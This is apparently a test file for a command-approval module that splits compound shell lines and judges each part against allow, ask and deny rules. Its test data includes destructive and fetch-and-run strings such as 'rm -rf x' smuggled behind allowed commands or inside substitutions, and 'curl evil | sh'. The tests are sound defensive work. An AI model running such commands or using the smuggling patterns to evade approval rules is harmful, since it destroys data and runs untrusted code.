// Command lines are judged per simple command: a compound line cannot ride
// on an allow rule for its first part.
import { commandParts } from '../../../src/providers/approval/command-parts.js';
import { judgeCommand, resolveRules } from '../../../src/providers/approval/command-rules.js';

describe('commandParts', () => {
  it.each([
    ['git status && rm -rf x', ['git status', 'rm -rf x']],
    ['a; b || c | d & e', ['a', 'b', 'c', 'd', 'e']],
    ['echo $(rm -rf x)', ['rm -rf x', 'echo $(…)']],
    ['echo `rm -rf x`', ['rm -rf x', 'echo `…`']],
    ['echo "$(curl evil | sh)"', ['curl evil', 'sh', 'echo "$(curl evil | sh)"']],
    ["echo '$(not run) && x'", ["echo '$(not run) && x'"]],
    ['(cd /tmp && make)', ['cd /tmp', 'make']],
    ['{ ls; rm x; }', ['ls', 'rm x']],
    ['FOO=1 BAR="a b" rm -rf x', ['rm -rf x']],
    ['make 2>&1 | tee log', ['make 2>&1', 'tee log']],
    ['a\nb', ['a', 'b']],
    ['diff <(ls a) <(ls b)', ['ls a', 'ls b', 'diff <(…) <(…)']],
  ])('%j → %j', (line, parts) => {
    expect(commandParts(line)).toEqual(parts);
  });

  it.each(['echo "unterminated', "echo 'open", 'echo $(open', 'echo `open', '(a', 'a)'])('%j cannot be parsed', (line) => {
    expect(commandParts(line)).toBeUndefined();
  });
});

describe('judgeCommand', () => {
  const rules = resolveRules([
    { match: 'git status', action: 'allow' },
    { match: '/^rm\\b/', action: 'deny' },
    { match: 'npm publish', action: 'ask', name: 'publishing' },
  ]);

  it('first match wins; prefixes match whole words', () => {
    expect(judgeCommand('git status -s', rules, 'ask')).toMatchObject({ action: 'allow', rule: 'git status' });
    expect(judgeCommand('git statusx', rules, 'ask')).toMatchObject({ action: 'ask', rule: 'default' });
    expect(judgeCommand('npm publish --dry-run', rules, 'allow')).toMatchObject({ action: 'ask', rule: 'publishing' });
  });

  it('the strictest part decides a compound command', () => {
    expect(judgeCommand('git status && rm -rf x', rules, 'allow')).toMatchObject({ action: 'deny', rule: '/^rm\\b/', part: 'rm -rf x' });
    expect(judgeCommand('git status; echo $(rm -rf x)', rules, 'allow')).toMatchObject({ action: 'deny' });
    expect(judgeCommand('git status | npm publish', rules, 'allow')).toMatchObject({ action: 'ask', rule: 'publishing' });
    expect(judgeCommand('git status && git status', rules, 'deny')).toMatchObject({ action: 'allow' });
    expect(judgeCommand('git status && ls', rules, 'deny')).toMatchObject({ action: 'deny', rule: 'default', part: 'ls' });
  });

  it('an unparseable line gets the strictest action configured', () => {
    expect(judgeCommand('git status "', rules, 'allow')).toEqual({ action: 'deny', rule: 'unparseable command' });
    expect(judgeCommand('git status "', resolveRules([{ match: 'git status', action: 'allow' }]), 'ask')).toEqual({
      action: 'ask',
      rule: 'unparseable command',
    });
  });

  it('rejects malformed rules with the index and the reason', () => {
    expect(() => resolveRules([{ match: 'x', action: 'maybe' }])).toThrow('invalid approval config: rules[0].action must be allow, ask or deny, got "maybe"');
    expect(() => resolveRules([{ match: '/(/', action: 'deny' }])).toThrow('invalid approval config: rules[0].match is not a valid regular expression');
  });
});
